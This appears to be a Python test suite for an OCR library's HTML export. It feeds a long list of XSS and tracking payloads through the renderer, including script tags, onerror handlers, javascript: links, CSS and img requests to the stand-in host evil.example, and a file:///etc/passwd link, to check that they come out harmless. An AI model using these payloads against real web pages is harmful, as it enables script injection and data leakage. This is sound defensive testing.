from __future__ import annotations

import re
from functools import partial

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dsocr import exports
from dsocr.exports.markup import formula, safe_html
from dsocr.types import Block, Document
from tests.exports.documents import RAW, Elements, PageImages, document, failed_page, page

render = partial(exports.render, format="html")

PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "section", "aside", "small"}
ALLOWED = PAGE_TAGS | safe_html.TAGS | formula.TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.gif'>",
    "<img src=`x` onerror=alert(1)>",
    "<img srcset='https://evil.example/a 1x' src=images/0_0.jpg>",
    '<img src="images/0_0.jpg" onload="alert(1)" style="background:url(//evil.example)">',
    "![](https://evil.example/track.png)",
    "![](//evil.example/track.png)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](images/0_0.jpg)',
    "![<script>alert(1)</script>](images/0_0.jpg)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_blank ping=//evil.example>x</a>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p style='background-image:url(https://evil.example)'>x</p>",
    "<table background=https://evil.example><tr><td background=//evil.example>x</td></tr></table>",
    "<td rowspan='2\" onmouseover=\"alert(1)'>x</td>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<video src=https://evil.example poster=//evil.example onerror=alert(1)></video>",
    "<audio src=//evil.example onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "</section></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=//evil.example?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\style{background:url(//evil.example)}{x}\]",
    r"<td rowspan='\(x\)'>\(\text{&lt;script&gt;alert(1)&lt;/script&gt;}\)</td>",
    r"![\(x\)](images/0_0.jpg)",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<\x00script>alert(1)</script>",
]


def one_page(markdown: str) -> Document:
    figure = "<|ref|>image<|/ref|><|det|>[[0, 0, 99, 99]]<|/det|>"
    read = page(figure)
    return document(
        type(read)(
            index=0,
            width=read.width,
            height=read.height,
            markdown=markdown,
            blocks=(*read.blocks, Block("text", markdown)),
        )
    )


def assert_harmless(html: str) -> None:
    body = html[html.index("<body>") :]
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        assert not {"style", "srcset", "background", "poster", "ping", "action"} & set(attributes)
        assert attributes.get("src", "data:image/jpeg;base64,").startswith(
            "data:image/jpeg;base64,"
        )
        assert re.match(r"(https?://|mailto:)", attributes.get("href", "https://"))
    assert not {tag for tag, _ in Elements(body).found} & (PAGE_TAGS - {"body", "section"})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_and_no_request_comes_out_of_what_the_model_writes(payload: str) -> None:
    for markdown in (
        payload,
        f"before {payload} after",
        f"<table><tr><td>{payload}</td></tr></table>",
    ):
        assert_harmless(render(one_page(markdown), assets=PageImages()).decode())


@settings(deadline=None)
@given(st.lists(st.sampled_from(PAYLOADS + ["\n\n", "<table><tr><td>", "\\(", "\\)", '"', "'"])))
def test_payloads_in_any_mixture_are_harmless(parts: list[str]) -> None:
    assert_harmless(render(one_page("".join(parts))).decode())


def test_the_policy_forbids_scripts_and_requests() -> None:
    html = render(one_page("x")).decode()
    (policy,) = re.findall(r'Content-Security-Policy" content="(.*?)"', html)
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert html.index("Content-Security-Policy") < html.index("<style>")


def test_the_name_of_the_document_is_only_a_title() -> None:
    html = render(document(page("x"), name="</title><script>alert(1)</script>")).decode()
    assert "<title>&lt;/title&gt;&lt;script&gt;" in html
    assert_harmless(html)


def test_figures_are_inside_the_page() -> None:
    html = render(document(page(RAW["multi_box_image"])), assets=PageImages()).decode()
    assert html.count('<img src="data:image/jpeg;base64,/9j/') == 3
    assert "images/" not in html


def test_without_page_images_figures_are_left_out() -> None:
    html = render(document(page(RAW["multi_box_image"]))).decode()
    assert "<img" not in html and "<p>A</p>" in html


def test_tables_keep_their_spans_and_formulas_become_mathml_even_in_cells() -> None:
    raw = r'<table><tr><td rowspan="2">\(x^2\)</td><td>b</td></tr></table>'
    html = render(document(page(f"# T\n\n{raw}\n\n\\[\na_1\n= b_2\n\\]\n\n`\\(c\\)`"))).decode()
    assert '<td rowspan="2"><math display="inline">' in html
    assert '<math display="block">' in html and "<h1>T</h1>" in html
    assert r"<code>\(c\)</code>" in html


def test_a_formula_nobody_can_read_is_shown_as_it_is_written() -> None:
    assert r"\(\left( &lt; x\)" in render(document(page(r"so \(\left( < x\) it is"))).decode()


def test_a_failed_page_says_why_in_its_place() -> None:
    html = render(document(page("a"), failed_page(1))).decode()
    assert '<section id="page-2" class="failed">' in html
    assert "Page 2 could not be read: Reading the page took too &lt;long&gt;." in html


@pytest.mark.parametrize(
    "unit", [r"\(", r"\[", "[", "*a", "<", "<td>", "`", "![](", "> ", "- ", "\\(a\\)", "&#", "|a"]
)
def test_a_hostile_page_ends(unit: str) -> None:
    assert render(document(page(unit * (60_000 // len(unit)))))


def test_footnotes_are_links_to_their_notes_at_the_end_of_the_page() -> None:
    text = "One[^1] and two[^*], again[^1], none[^9].\n\n[^1]: A *note*.\n[^*]: Ibid."
    made = render(document(page(text))).decode()
    assert made.count('<a href="#page-1-note-1">1</a></sup>') == 2
    assert made.count('id="page-1-ref-1"') == made.count('id="page-1-note-1"') == 1
    assert '<a href="#page-1-ref-1">1</a></sup> A <em>note</em>.</small>' in made
    assert '<a href="#page-1-ref-2">*</a></sup> Ibid.</small>' in made
    assert "none[^9]" in made and "[^1]" not in made


def test_blocks_of_a_page_with_right_to_left_text_run_as_their_text_does() -> None:
    made = render(document(page("## 2 שלום\n\nplain"), page("plain", 1))).decode()
    assert '<h2 dir="auto">2 שלום</h2>' in made
    assert '<p dir="auto">plain</p>' in made and "<p>plain</p>" in made
